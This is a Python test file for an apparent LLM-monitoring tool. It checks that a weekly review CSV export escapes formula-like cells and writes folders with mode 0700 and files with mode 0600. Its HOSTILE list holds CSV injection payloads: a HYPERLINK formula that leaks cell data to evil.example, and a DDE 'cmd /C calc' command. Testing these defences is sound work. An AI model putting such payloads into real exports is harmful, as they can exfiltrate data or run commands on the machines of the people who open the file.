"""The review export on a real chdb store: formula-like cells are neutralised, folders are 0700 and files 0600."""

from __future__ import annotations

import csv
import os
import stat
import uuid
from datetime import datetime, timedelta, timezone

from llmsight import store
from llmsight.review.export import export_week
from llmsight.review.weeks import IsoWeek

WEEK = IsoWeek.containing(datetime.now(timezone.utc) - timedelta(days=14))
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]
PLAIN = ["Where is my card?", "a-b = c", "  =not at the start"]


def _iso(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def test_review_csv_neutralises_formulas_and_the_files_are_private(store_client, tmp_path):
    events, feedback = [], []
    for index, text in enumerate(HOSTILE + PLAIN):
        trace = uuid.uuid4().hex
        moment = WEEK.start + timedelta(hours=index + 1)
        events.append(store.event_row({
            "event_id": str(uuid.uuid4()), "trace_id": trace, "ts": _iso(moment), "service": "bank",
            "name": "answer", "model": "m", "prompt_version": "v1", "input": text, "output": text,
            "latency_ms": 10.0}, "test"))
        # Rejected: every call is flagged, so every one is in the review sample, comment included.
        feedback.append(store.feedback_row({
            "event_id": str(uuid.uuid4()), "trace_id": trace, "ts": _iso(moment + timedelta(minutes=1)),
            "accepted": False, "comment": text}, "test"))
    store_client.insert("events", events, column_names=store.EVENT_COLUMNS)
    store_client.insert("feedback", feedback, column_names=store.FEEDBACK_COLUMNS)

    out = tmp_path / "new" / "exports"  # neither folder exists yet
    result = export_week(store_client, WEEK, out, formats="parquet,csv,html", sample_size=10, topics_by_week=False)

    with (result.directory / "review_sample.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(HOSTILE + PLAIN)
    for row in rows:
        for column in ("input", "output", "comment"):
            value = row[column]
            original = value[1:] if value.startswith("'") else value
            assert original in HOSTILE + PLAIN
            assert value == ("'" + original if original in HOSTILE else original), (column, value)
    assert {row["accepted"] for row in rows} == {"0"}  # numbers are left as they are

    for folder in (out.parent, out, result.directory):
        assert stat.S_IMODE(os.stat(folder).st_mode) == 0o700, folder
    assert result.files
    for path in result.files.values():
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600, path
